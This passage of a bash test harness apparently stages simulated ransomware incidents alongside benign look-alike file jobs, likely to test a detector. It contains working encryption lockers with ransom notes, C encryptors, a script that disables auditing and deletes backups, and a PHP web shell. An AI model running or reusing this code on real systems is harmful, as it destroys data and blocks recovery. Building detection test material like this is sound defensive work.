  sshx deploy 'sudo rsync -a --delete /usr/share/doc/ /srv/backup/doc/ && sudo rsync -a --delete /usr/share/doc/ /srv/backup/doc/; echo rsync done' >> $CASE/facts & local p2=$!
  sleep 8
  sshx mkowalski 'sudo /usr/local/sbin/smartd-cache /srv/nas/share; echo locker done' >> $CASE/facts
  wait $p1 $p2
  DEBIAN_FRONTEND=noninteractive apt-get purge -y -q --autoremove texlive-base >/dev/null 2>&1; rm -rf /srv/backup /usr/local/sbin/smartd-cache
}

# --- batch 20 ---
pre_h80_ssh_sudo_auditctl_cut_midway() {
  install -d -m 755 /usr/lib/.nfs-idmap
  cat > /usr/lib/.nfs-idmap/go.sh <<'S'
#!/bin/bash
# encrypts the first folder, then turns auditing off (auditctl -e 0) and goes on with the rest
k=Cut-80; first=1
for d in /srv/nas/share/*/; do
  find "$d" -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:$k -in "$f" -out "$f.cut80" && rm -f "$f"; done
  printf 'All your files are encrypted. cut80@tutamail.example\n' > "$d/CUT80-README.txt"
  if [ $first = 1 ]; then auditctl -e 0 >/dev/null; first=0; fi
done
S
  chmod 755 /usr/lib/.nfs-idmap/go.sh
}
sc_h80_ssh_sudo_auditctl_cut_midway() {
  local first; first=$(ls -d /srv/nas/share/*/ | head -1)
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l) first_dir $first files_first $(find $first -type f | wc -l)" > $CASE/facts
  sshx deploy 'sudo /usr/lib/.nfs-idmap/go.sh; echo ok'
  echo "share after: $(find /srv/nas/share -name '*.cut80' | wc -l) encrypted" >> $CASE/facts
  rm -rf /usr/lib/.nfs-idmap
}
pre_h81_ssh_venv_python_setsid_logout() {
  su - priya -c 'python3 -m venv --copies --without-pip ~/.venv'
  cat > /home/priya/enc.py <<'P'
import os, sys, hashlib
key = hashlib.sha256(b'venv-81').digest()
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        p = os.path.join(root, n)
        with open(p, 'rb') as f: data = f.read()
        with open(p + '.vnv81', 'wb') as f: f.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.unlink(p)
    with open(os.path.join(root, 'VNV81-DECRYPT.txt'), 'w') as f: f.write('your work is encrypted. vnv81@proton.example\n')
open('/tmp/.h81-done', 'w').close()
P
  chown priya: /home/priya/enc.py
}
sc_h81_ssh_venv_python_setsid_logout() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'setsid -f sh -c "sleep 2; exec ~/.venv/bin/python3 ~/enc.py ~/work" >/dev/null 2>&1 </dev/null; exit 0'
  for i in $(seq 120); do [ -f /tmp/.h81-done ] && break; sleep 1; done; rm -f /tmp/.h81-done
  rm -rf /home/priya/.venv /home/priya/enc.py
}
sc_h82_ssh_scareware_rename_locked() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'find ~/Documents -type f -exec sh -c '"'"'for f; do mv -- "$f" "$f.locked"; done'"'"' _ {} + ; find ~/Documents -type d -exec sh -c '"'"'printf "ALL YOUR FILES ARE ENCRYPTED. Pay 0.1 BTC to bc1q-scare82 to get them back.\n" > "$1/HOW_TO_UNLOCK_FILES.txt"'"'"' _ {} \; ; echo ok'
}
sc_h83_ssh_split_openssl_cat() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx svc-nas 'find /srv/nas/share -type f | while read -r f; do split -b 16k -- "$f" "$f.part-" && for p in "$f".part-*; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Sp-83 -in "$p" -out "$p.e" && rm -f "$p"; done && cat "$f".part-*.e > "$f.enc" && rm -f "$f" "$f".part-*.e; done; find /srv/nas/share -type d -exec sh -c '"'"'echo "files encrypted, sp83@onion.example" > "$1/SP83-RESTORE.txt"'"'"' _ {} \; ; echo ok'
}
pre_b100_ssh_sudo_mv_tree_to_tmpfs() {
  python3 - <<'PY'
import os, random
r = random.Random(100)
for d in range(12):
    p = f'/srv/nas/projects/proj_{d:02d}/assets'
    os.makedirs(p, exist_ok=True)
    for i in range(27):
        with open(f'{p}/file_{i:03d}.' + r.choice(['dat','png','txt','csv']), 'wb') as f: f.write(os.urandom(r.randint(1000, 20000)))
PY
  chown -R svc-nas: /srv/nas/projects
  mkdir -p /mnt/archive; mountpoint -q /mnt/archive || mount -t tmpfs -o size=64m tmpfs /mnt/archive; chown svc-nas: /mnt/archive
}
sc_b100_ssh_sudo_mv_tree_to_tmpfs() {
  echo "files $(find /srv/nas/projects -type f | wc -l) dirs $(find /srv/nas/projects -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'sudo -u svc-nas mv /srv/nas/projects /mnt/archive/projects-2025 && find /mnt/archive -type f | wc -l'
  umount /mnt/archive; rmdir /mnt/archive
}
pre_b101_ssh_rsync_camera_card_dated() {
  mkdir -p /media/card; mountpoint -q /media/card || mount -t tmpfs -o size=64m tmpfs /media/card
  python3 - <<'PY'
import os, random
r = random.Random(101)
for day, folder in [('2026-12-05','100CANON'),('2026-12-06','101CANON'),('2026-12-07','102CANON')]:
    p = f'/media/card/DCIM/{folder}'; os.makedirs(p, exist_ok=True)
    for i in range(70):
        with open(f'{p}/IMG_{r.randint(1000,9999)}{i:02d}.JPG', 'wb') as f: f.write(b'\xff\xd8\xff\xe1' + os.urandom(r.randint(3000, 30000)))
        open(f'{p}/.{folder}-{day}', 'w').close() if i == 0 else None
PY
  chown -R tomas: /media/card
}
sc_b101_ssh_rsync_camera_card_dated() {
  echo "files $(find /media/card -name '*.JPG' | wc -l)" > $CASE/facts
  sshx tomas 'for d in /media/card/DCIM/*/; do day=$(ls -a "$d" | sed -n "s/^\.[0-9]*CANON-//p"); mkdir -p ~/Pictures/$day && rsync -a --remove-source-files --exclude ".*" "$d" ~/Pictures/$day/; done; find /media/card/DCIM -name ".*CANON-*" -delete; find /media/card/DCIM -mindepth 1 -type d -empty -delete; ls -R ~/Pictures | grep -c JPG'
  umount /media/card; rmdir /media/card; rm -rf /home/tomas/Pictures
}
pre_b102_ssh_gpg_c_tax_pdfs_shred() {
  mkdir -p /home/priya/work/tax-2025
  for i in $(seq 1 10); do head -c $((30000 + i * 1000)) /dev/urandom > /home/priya/work/tax-2025/steuer_beleg_$i.pdf; done
  chown -R priya: /home/priya/work/tax-2025
}
sc_b102_ssh_gpg_c_tax_pdfs_shred() {
  sshx priya 'cd ~/work/tax-2025 && for f in *.pdf; do gpg --batch --yes --pinentry-mode loopback --passphrase "Steuer 2025!" -c "$f" && shred -u "$f"; sleep 2; done; ls | tee /dev/stderr | wc -l' > $CASE/facts 2>&1
}
pre_b103_ssh_tar_restore_find_newer_delete() {
  su - mkowalski -c 'find ~/Documents -type f -exec touch -d "-2 days" {} + && tar -cf /tmp/mk-backup.tar -C ~ Documents && touch ~/.backup-stamp'
  chmod 644 /tmp/mk-backup.tar; sleep 1
  su - mkowalski -c 'for d in ~/Documents/*/; do for i in 1 2 3; do head -c 5000 /dev/urandom > "$d/new_since_$i.tmp"; done; done; for f in $(find ~/Documents -type f | head -20); do echo edit >> "$f"; done'
}
sc_b103_ssh_tar_restore_find_newer_delete() {
  sshx mkowalski 'tar -xpf /tmp/mk-backup.tar -C ~ && find ~/Documents -type f -newer ~/.backup-stamp -print -delete | wc -l' > $CASE/facts
  rm -f /tmp/mk-backup.tar /home/mkowalski/.backup-stamp
}

# ---- twenty-first batch (2026-12-08): a VM-disk locker, `bash -s` over ssh with the shell doing the file I/O, a job
# planted in /etc/cron.d as www-data, 7z -sdel of each home as root; look-alikes: checksum sidecars in every folder of an
# archive, a config push (tmp + rename + .orig + README.managed), smbclient mput + delete of old copies, thumbnails.
pre_h84_ssh_sudo_vmdisk_intermittent() {
  rm -rf /var/lib/libvirt/images /vmfs
  mkdir -p /var/lib/libvirt/images /vmfs/volumes/datastore1/web01 /vmfs/volumes/datastore1/db01
  for v in win2019-dc ubuntu-build fileserver; do truncate -s 160M /var/lib/libvirt/images/$v.qcow2; head -c 3M /dev/urandom | dd of=/var/lib/libvirt/images/$v.qcow2 conv=notrunc status=none; done
  for v in web01 db01; do truncate -s 120M /vmfs/volumes/datastore1/$v/$v-flat.vmdk; head -c 2M /dev/urandom | dd of=/vmfs/volumes/datastore1/$v/$v-flat.vmdk conv=notrunc status=none
    printf 'config.version = "8"\ndisplayName = "%s"\nscsi0:0.fileName = "%s.vmdk"\n' $v $v > /vmfs/volumes/datastore1/$v/$v.vmx; done
  truncate -s 80M /var/lib/libvirt/images/scratch.img
  # an ESXiArgs-like encryptor: 1 MB encrypted, then every 16th MB, in place (pread/pwrite), the file kept its name
  install -d -m 700 /tmp/.esx
  cat > /tmp/.esx/encrypt.c <<'C'
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/stat.h>
int main(int c, char **v) {
  if (c < 3) return 1;
  long step = atol(v[2]) * 1048576L; static unsigned char b[1048576]; struct stat st;
  int fd = open(v[1], O_RDWR); if (fd < 0 || fstat(fd, &st)) return 1;
  for (off_t o = 0; o < st.st_size; o += step) {
    ssize_t n = pread(fd, b, sizeof b, o); if (n <= 0) break;
    for (ssize_t i = 0; i < n; i++) b[i] = (unsigned char)(b[i] ^ (0xA5 + i * 7));
    pwrite(fd, b, n, o);
  }
  fsync(fd); close(fd); return 0;
}
C
  gcc -O2 -o /tmp/.esx/encrypt /tmp/.esx/encrypt.c && rm /tmp/.esx/encrypt.c
  cat > /tmp/.esx/encrypt.sh <<'S'
#!/bin/sh
for f in $(find /var/lib/libvirt/images /vmfs/volumes -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.img' \)); do
  /tmp/.esx/encrypt "$f" 16 && mv "$f" "$f.args"
done
for d in /var/lib/libvirt/images $(find /vmfs/volumes -mindepth 2 -type d); do
  printf 'How to Restore Your Files\nSend 2.1 BTC, then mail esx84@onionmail.example\n' > "$d/How to Restore Your Files.html"
done
S
  chmod 700 /tmp/.esx/encrypt.sh
}
sc_h84_ssh_sudo_vmdisk_intermittent() {
  echo "files $(find /var/lib/libvirt/images /vmfs -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.img' \) | wc -l) dirs 3 bytes $(du -b --apparent-size -c $(find /var/lib/libvirt/images /vmfs -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.img' \)) | tail -1 | cut -f1)" > $CASE/facts
  sshx deploy 'sudo nohup sh /tmp/.esx/encrypt.sh >/dev/null 2>&1; echo ok'
  rm -rf /tmp/.esx /var/lib/libvirt/images /vmfs
}
sc_h85_ssh_bash_s_stdin_redirect_openssl() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  local st; st=$(mktemp); cat > $st <<'S'
find ~/work -type f | while IFS= read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:Bs-85 < "$f" > "$f.enc" && rm "$f"
done
find ~/work -type d | while IFS= read -r d; do echo "Your work is encrypted. bs85@onionmail.example" > "$d/README-BS85.txt"; done
echo ok
S
  ssh -q -p 2222 -i $HO/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes priya@127.0.0.1 'bash -s' < $st
  rm -f $st
}
pre_h86_cron_d_www_data_uploads() {
  install -d -o www-data -g www-data /var/www/shop/.well-known/.tmp
  cat > /var/www/shop/.well-known/.tmp/sess.sh <<'S'
#!/bin/sh
find /var/www/shop/uploads -type f ! -name '*.wwwlock' ! -name 'RESTORE-SHOP.txt' | while read -r f; do
  gzip -c "$f" | openssl enc -aes-128-ctr -pbkdf2 -pass pass:Ww-86 -out "$f.wwwlock" && rm -f "$f"
done
find /var/www/shop/uploads -type d -exec sh -c 'echo "shop data encrypted: ww86@onionmail.example" > "$1/RESTORE-SHOP.txt"' _ {} \;
touch /tmp/.h86-done
S
  chown www-data: /var/www/shop/.well-known/.tmp/sess.sh; chmod 755 /var/www/shop/.well-known/.tmp/sess.sh
}
sc_h86_cron_d_www_data_uploads() {
  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h86-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * www-data /var/www/shop/.well-known/.tmp/sess.sh >/dev/null 2>&1" > /etc/cron.d/php-sessionclean2
  wait_cron /tmp/.h86-done; sleep 2; rm -f /etc/cron.d/php-sessionclean2 /tmp/.h86-done; rm -rf /var/www/shop/.well-known
}
sc_h87_ssh_sudo_7z_sdel_homes() {
  echo "files $(find /home/mkowalski/Documents /home/priya/work -type f | wc -l) homes 2" > $CASE/facts
  sshx deploy 'sudo bash -c '"'"'for h in /home/*/; do u=$(basename "$h"); for d in Documents work proj; do [ -d "$h$d" ] || continue; 7z a -bd -y -p"Hm-87" -mhe=on -sdel "$h$u-$d.7z" "$h$d" >/dev/null && rm -rf "$h$d"; done; echo "All your documents are in password archives. hm87@onionmail.example" > "$h/HM87-README.txt"; done'"'"'; echo ok'
}
pre_b104_cron_root_sha256sums_archive() {
  rm -rf /srv/archive
  python3 - <<'PY'
import os, random
r = random.Random(104)
for y in (2023, 2024, 2025, 2026):
    for m in range(1, 12):
        p = f'/srv/archive/{y}/{y}-{m:02d}'
        os.makedirs(p, exist_ok=True)
        for i in range(r.randint(3, 7)):
            with open(f'{p}/export_{y}{m:02d}_{i}.' + r.choice(['csv','pdf','xml']), 'wb') as f: f.write(os.urandom(r.randint(1000, 12000)))
PY
}
sc_b104_cron_root_sha256sums_archive() {
  echo "dirs $(find /srv/archive -mindepth 2 -type d | wc -l) files $(find /srv/archive -type f | wc -l)" > $CASE/facts
  rm -f /tmp/.b104-done
  cat > /usr/local/sbin/archive-checksums <<'S'
#!/bin/sh
# write SHA256SUMS (and a .md5 twin) into every month folder of the archive, replacing last run's
for d in /srv/archive/*/*/; do
  (cd "$d" && find . -maxdepth 1 -type f ! -name 'SHA256SUMS*' ! -name '*.md5' -printf '%f\n' | sort | xargs -r sha256sum > SHA256SUMS.new && mv SHA256SUMS.new SHA256SUMS && md5sum SHA256SUMS > SHA256SUMS.md5)
done
touch /tmp/.b104-done
S
  chmod 755 /usr/local/sbin/archive-checksums
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root /usr/local/sbin/archive-checksums" > /etc/cron.d/archive-checksums
  wait_cron /tmp/.b104-done; sleep 1; rm -f /etc/cron.d/archive-checksums /usr/local/sbin/archive-checksums /tmp/.b104-done; rm -rf /srv/archive
}
pre_b105_ssh_sudo_config_push_managed() {
  rm -rf /etc/rtfleet
  for s in api billing cache gateway mailer queue search scheduler worker metrics; do mkdir -p /etc/rtfleet/$s
    for c in app.conf logging.ini limits.yaml; do printf '# %s %s\nlisten = 127.0.0.1\nworkers = 4\n' $s $c > /etc/rtfleet/$s/$c; done; done
  install -d -m 755 /opt/cfgpush
  cat > /opt/cfgpush/push.py <<'P'
import os, sys, shutil, tempfile, glob
# what ansible's template/copy module does per file: backup=yes keeps F.orig, new content goes to a temp file in the
# same folder, fsync, rename over the original; a README.managed marks every folder under management
for d in sorted(glob.glob('/etc/rtfleet/*/')):
    for f in sorted(glob.glob(d + '*')):
        if f.endswith(('.orig', 'README.managed')): continue
        shutil.copy2(f, f + '.orig')
        with open(f) as fh: old = fh.read()
        fd, tmp = tempfile.mkstemp(dir=d, prefix='.tmp')
        with os.fdopen(fd, 'w') as out:
            out.write('# Ansible managed: do not edit\n' + old.replace('workers = 4', 'workers = 8')); out.flush(); os.fsync(out.fileno())
        os.chmod(tmp, 0o644); os.rename(tmp, f)
    with open(d + 'README.managed', 'w') as fh: fh.write('This folder is managed by the config push (cfgpush). Local edits are overwritten.\n')
print('ok')
P
}
sc_b105_ssh_sudo_config_push_managed() {
  echo "files $(find /etc/rtfleet -type f | wc -l) dirs $(find /etc/rtfleet -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo python3 /opt/cfgpush/push.py'
  rm -rf /opt/cfgpush /etc/rtfleet
}
pre_b106_smb_mput_move_share() {
  smb_setup
  rm -rf /srv/nas/share/scans-old /tmp/.b106
  python3 - <<'PY'
import os, random
r = random.Random(106)
for base in ('/srv/nas/share/scans-old', '/tmp/.b106/scans'):
    for d in range(4):
        p = f'{base}/batch_{d}'; os.makedirs(p, exist_ok=True)
        for i in range(80):
            with open(f'{p}/scan_{d}_{i:03d}.pdf', 'wb') as f: f.write(b'%PDF-1.7\n' + os.urandom(r.randint(2000, 9000)))
PY
  chown -R svc-nas: /srv/nas/share/scans-old
}
sc_b106_smb_mput_move_share() {
  echo "files $(find /tmp/.b106/scans -type f | wc -l) old $(find /srv/nas/share/scans-old -type f | wc -l)" > $CASE/facts
  # the client uploads its new scans to the share, then removes its old copies there (a move done by hand over SMB)
  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' -c 'prompt; recurse; mkdir scans; cd scans; lcd /tmp/.b106/scans; mput *' > /dev/null 2>&1
  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' -c 'deltree scans-old' > /dev/null 2>&1
  echo "after: $(find /srv/nas/share/scans -type f | wc -l) uploaded, old left $(find /srv/nas/share/scans-old -type f 2>/dev/null | wc -l)" >> $CASE/facts
  rm -rf /tmp/.b106 /srv/nas/share/scans
}
pre_b107_ssh_thumbnails_cache() {
  rm -rf /home/priya/Pictures /home/priya/.cache/thumbnails
  for a in 2026-10 2026-11 2026-12; do mkdir -p /home/priya/Pictures/$a
    for i in $(seq 1 30); do /usr/bin/convert -size 400x300 gradient:"#$(printf %06x $((RANDOM * 97)))"-"#$(printf %06x $((RANDOM * 31)))" /home/priya/Pictures/$a/IMG_$i.jpg; done; done
  chown -R priya: /home/priya/Pictures
}
sc_b107_ssh_thumbnails_cache() {
  echo "photos $(find /home/priya/Pictures -name '*.jpg' | wc -l)" > $CASE/facts
  # what a file manager's thumbnailer does: per photo, a 256px PNG named by the md5 of its file:// URI, written to a temp
  # name and renamed into ~/.cache/thumbnails/large (freedesktop thumbnail spec)
  sshx priya 'mkdir -p ~/.cache/thumbnails/large && find ~/Pictures -name "*.jpg" | while read -r f; do h=$(printf "file://%s" "$f" | md5sum | cut -c1-32); /usr/bin/convert "$f" -thumbnail 256x256 ~/.cache/thumbnails/large/$h.png.tmp.png && mv ~/.cache/thumbnails/large/$h.png.tmp.png ~/.cache/thumbnails/large/$h.png; done; ls ~/.cache/thumbnails/large | wc -l'
  rm -rf /home/priya/Pictures /home/priya/.cache/thumbnails
}

# ---- twenty-second batch (2026-12-08): a PostgreSQL data-directory locker run as the service account, a locker that
# first strips protections (chattr -i, crontab -r, the backup job killed, /var/backups and snapshot folders deleted) then
# gpg -c + shred -u, an appending locker (first 64 KiB overwritten in place, a footer appended, no rename); look-alikes:
# ansible-vault encrypt of an admin's inventory, pandoc converting notes and removing them, pip --force-reinstall of a
# venv, update-ca-certificates --fresh.
pre_h88_ssh_sudo_postgres_datadir_locker() {
  pg_up; su postgres -c "dropdb --if-exists shopdb; createdb shopdb; pgbench -q -i -s 2 shopdb; createdb crm; psql -q -d crm -c 'create table customers as select g as id, md5(g::text) as name from generate_series(1,20000) g'" >/dev/null 2>&1
  pg_down
  rm -rf /var/tmp/.pg88-main; cp -a /var/lib/postgresql/15/main /var/tmp/.pg88-main   # restored by post_, outside the recording
  pg_up
}
sc_h88_ssh_sudo_postgres_datadir_locker() {
  echo "files $(find /var/lib/postgresql/15/main/base -type f -regex '.*/[0-9]+' | wc -l) dbdirs $(find /var/lib/postgresql/15/main/base -mindepth 1 -maxdepth 1 -type d -regex '.*/[0-9]+' | wc -l)" > $CASE/facts
  sshx deploy 'sudo pg_ctlcluster 15 main stop -m fast; sudo su postgres -s /bin/sh -c '"'"'cd /var/lib/postgresql/15/main && find base -type f -regex ".*/[0-9]+" | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Pg-88-db -in "$f" -out "$f.enc" && rm -f "$f"; done; printf "Your databases are encrypted. Send 0.5 BTC, then mail pg88@onionmail.example\n" > /var/lib/postgresql/15/main/README_RECOVER_DB.txt'"'"'; echo ok'
  echo "after: $(find /var/lib/postgresql/15/main/base -name '*.enc' | wc -l) encrypted" >> $CASE/facts
}
post_h88_ssh_sudo_postgres_datadir_locker() {
  rm -rf /var/lib/postgresql/15/main && mv /var/tmp/.pg88-main /var/lib/postgresql/15/main
  pg_up; su postgres -c "dropdb shopdb; dropdb crm" >/dev/null 2>&1; pg_down
}
pre_h89_ssh_sudo_strip_protections_gpg_shred() {
  rm -rf /var/tmp/.h89-varbackups; cp -a /var/backups /var/tmp/.h89-varbackups    # the host's own, put back by post_
  for n in 1 2 3; do tar czf /var/backups/nas-share-2026-12-0$n.tar.gz -C /srv/nas share 2>/dev/null; done
  mkdir -p /srv/nas/.snapshots; for s in daily-2026-12-06 daily-2026-12-07 weekly-2026-49; do cp -a /srv/nas/share /srv/nas/.snapshots/$s; done
  # the admin's protections: the finance folder and a few contracts immutable, a root crontab with the nightly backup
  for f in $(find /srv/nas/share -type f | head -12); do chattr +i "$f"; done
  crontab -l 2>/dev/null > /var/tmp/.h89-crontab; echo "30 2 * * * /usr/local/sbin/nas-backup.sh" | crontab -
  cat > /usr/local/sbin/nas-backup.sh <<'S'
#!/bin/sh
# the nightly backup, running long (a copy loop)
while :; do sleep 5; done
S
  chmod 755 /usr/local/sbin/nas-backup.sh
  setsid /usr/local/sbin/nas-backup.sh </dev/null >/dev/null 2>&1 3>&- 9>&- & echo $! > /run/nas-backup.pid
  install -d -m 700 /usr/lib/.sysguard
  cat > /usr/lib/.sysguard/p.sh <<'S'
#!/bin/bash
# strip the protections first, then encrypt
chattr -R -i /srv/nas/share 2>/dev/null
crontab -r
kill "$(cat /run/nas-backup.pid)" 2>/dev/null; rm -f /run/nas-backup.pid
rm -rf /var/backups/* /srv/nas/.snapshots/*
find /srv/nas/share -type f | while read -r f; do
  gpg --batch --yes --pinentry-mode loopback --passphrase 'Sg-89!x' -c -o "$f.sg89" "$f" && shred -u "$f"
done
find /srv/nas/share -type d -exec sh -c 'printf "Backups deleted, files encrypted. sg89@onionmail.example\n" > "$1/SG89-RESTORE.txt"' _ {} \;
S
  chmod 700 /usr/lib/.sysguard/p.sh
}
sc_h89_ssh_sudo_strip_protections_gpg_shred() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l) immutable 12 backups 3 snapshots 3" > $CASE/facts
  sshx mkowalski 'sudo /usr/lib/.sysguard/p.sh; echo ok'
  echo "after: $(find /srv/nas/share -name '*.sg89' | wc -l) encrypted" >> $CASE/facts
}
post_h89_ssh_sudo_strip_protections_gpg_shred() {
  rm -rf /usr/lib/.sysguard /usr/local/sbin/nas-backup.sh /srv/nas/.snapshots; [ -f /run/nas-backup.pid ] && kill "$(cat /run/nas-backup.pid)"; rm -f /run/nas-backup.pid
  rm -rf /var/backups && mv /var/tmp/.h89-varbackups /var/backups
  if [ -s /var/tmp/.h89-crontab ]; then crontab /var/tmp/.h89-crontab; else crontab -r 2>/dev/null; fi; rm -f /var/tmp/.h89-crontab
}
pre_h90_ssh_appending_locker() {
  install -d -o priya -g priya /home/priya/.local/share/tracker3
  cat > /tmp/.ap90.c <<'C'
#define _XOPEN_SOURCE 700
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
/* keeps every file's name and size class: the first 64 KiB read, XOR'd, written back at offset 0 through an O_WRONLY
   open without O_TRUNC, then a 512-byte footer (key blob + marker) written at the end of the file */
static const char *NOTE = "RESTORE-AP90.txt";
static int one(const char *p, const struct stat *st, int type, struct FTW *f) {
  if (type == FTW_D) { char n[4096]; snprintf(n, sizeof n, "%s/%s", p, NOTE); FILE *o = fopen(n, "w");
    if (o) { fputs("Your files are encrypted (footer AP90). ap90@onionmail.example\n", o); fclose(o); } return 0; }
  if (type != FTW_F || strstr(p, NOTE)) return 0;
  static unsigned char b[65536]; unsigned char foot[512];
  int r = open(p, O_RDONLY); if (r < 0) return 0; ssize_t n = read(r, b, sizeof b); close(r); if (n <= 0) return 0;
  for (ssize_t i = 0; i < n; i++) b[i] ^= (unsigned char)(0x5a + i * 13);
  memset(foot, 0x41, sizeof foot); memcpy(foot + sizeof foot - 8, "AP90END!", 8);
  int w = open(p, O_WRONLY); if (w < 0) return 0;
  pwrite(w, b, n, 0); pwrite(w, foot, sizeof foot, st->st_size); close(w);
  return 0;
}
int main(int c, char **v) { return c < 2 ? 1 : nftw(v[1], one, 16, FTW_PHYS); }
C
  gcc -O2 -o /home/priya/.local/share/tracker3/tracker-extract-3 /tmp/.ap90.c && rm -f /tmp/.ap90.c
  chown priya: /home/priya/.local/share/tracker3/tracker-extract-3
}
sc_h90_ssh_appending_locker() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya '~/.local/share/tracker3/tracker-extract-3 ~/work; echo ok'
  rm -rf /home/priya/.local/share/tracker3
}
pre_b108_ssh_ansible_vault_encrypt_inventory() {
  rm -rf /home/tomas/infra
  python3 - <<'PY'
import os, random
r = random.Random(108)
for g in ('all', 'web', 'db', 'nas', 'monitoring'):
    os.makedirs(f'/home/tomas/infra/group_vars/{g}', exist_ok=True)
    for f in ('vault.yml', 'secrets.yml', 'credentials.yml', 'tls.yml'):
        with open(f'/home/tomas/infra/group_vars/{g}/{f}', 'w') as o:
            for i in range(r.randint(5, 15)): o.write(f'{g}_secret_{i}: "{os.urandom(12).hex()}"\n')
os.makedirs('/home/tomas/infra/host_vars', exist_ok=True)
for h in range(12):
    with open(f'/home/tomas/infra/host_vars/host{h:02d}.lab.internal.yml', 'w') as o:
        o.write(f'ansible_become_password: "{os.urandom(10).hex()}"\nbackup_key: "{os.urandom(16).hex()}"\n')
PY
  echo 'correct horse battery staple 108' > /home/tomas/.vault_pass; chmod 600 /home/tomas/.vault_pass
  chown -R tomas: /home/tomas/infra /home/tomas/.vault_pass
}
sc_b108_ssh_ansible_vault_encrypt_inventory() {
  echo "files $(find /home/tomas/infra -name '*.yml' | wc -l)" > $CASE/facts
  sshx tomas 'cd ~/infra && ansible-vault encrypt --vault-password-file ~/.vault_pass group_vars/*/*.yml host_vars/*.yml 2>&1 | tail -1; grep -l "^\$ANSIBLE_VAULT" -r . | wc -l' >> $CASE/facts
  rm -rf /home/tomas/infra /home/tomas/.vault_pass /home/tomas/.ansible
}
pre_b109_ssh_pandoc_notes_to_docx() {
  rm -rf /home/mkowalski/notes
  python3 - <<'PY'
import os, random
r = random.Random(109)
for d in ('meetings', 'howto', 'projects', 'journal'):
    os.makedirs(f'/home/mkowalski/notes/{d}', exist_ok=True)
    for i in range(30):
        with open(f'/home/mkowalski/notes/{d}/{d}-{i:03d}.md', 'w') as o:
            o.write(f'# {d} {i}\n\n' + '\n'.join(f'- item {j}: ' + ' '.join(r.choice(['alpha','beta','backup','server','review','plan']) for _ in range(8)) for j in range(r.randint(5, 30))) + '\n')
PY
  chown -R mkowalski: /home/mkowalski/notes
}
sc_b109_ssh_pandoc_notes_to_docx() {
  echo "files $(find /home/mkowalski/notes -name '*.md' | wc -l) dirs 4" > $CASE/facts
  sshx mkowalski 'cd ~/notes && for f in */*.md; do pandoc "$f" -o "${f%.md}.docx" && rm "$f"; done; ls */*.docx | wc -l' >> $CASE/facts
  rm -rf /home/mkowalski/notes
}
pre_b110_ssh_pip_force_reinstall_venv() {
  rm -rf /home/tomas/proj/.venv; su - tomas -c 'mkdir -p ~/proj && python3 -m venv ~/proj/.venv && ~/proj/.venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels --upgrade pip setuptools' >/dev/null 2>&1
}
sc_b110_ssh_pip_force_reinstall_venv() {
  echo "files $(find /home/tomas/proj/.venv -type f | wc -l)" > $CASE/facts
  sshx tomas 'cd ~/proj && .venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels --force-reinstall pip setuptools 2>&1 | tail -1; find .venv -type f | wc -l' >> $CASE/facts
  rm -rf /home/tomas/proj/.venv
}
sc_b111_ssh_sudo_update_ca_certificates_fresh() {
  echo "links $(find /etc/ssl/certs -type l | wc -l)" > $CASE/facts
  sshx deploy 'sudo update-ca-certificates --fresh 2>&1 | tail -2; ls /etc/ssl/certs | wc -l' >> $CASE/facts
}
pre_h91_webshell_su_root_password_locker() {
  rm -rf /var/www/shop/public; install -d -o root -g root -m 755 /var/www/shop/public
  echo '<?php echo "<h1>Shop</h1>";' > /var/www/shop/public/index.php
  # a web shell an earlier upload bug left behind (the intrusion itself is not part of the story)
  echo '<?php if (isset($_POST["c"])) { header("Content-Type: text/plain"); system($_POST["c"] . " 2>&1"); }' > /var/www/shop/public/.thumb-cache.php
  # the stolen secret: root's password (an admin reused it in a config the intruder read); put back by post_
  grep '^root:' /etc/shadow | cut -d: -f2,3 > /var/tmp/.h91-roothash; echo 'root:Rt#shop-2026' | chpasswd
  H91_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
}
sc_h91_webshell_su_root_password_locker() {
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
  setsid runuser -u www-data -- php -S 127.0.0.1:$H91_PORT -t /var/www/shop/public </dev/null >/dev/null 2>&1 3>&- 9>&- &
  local web=$!
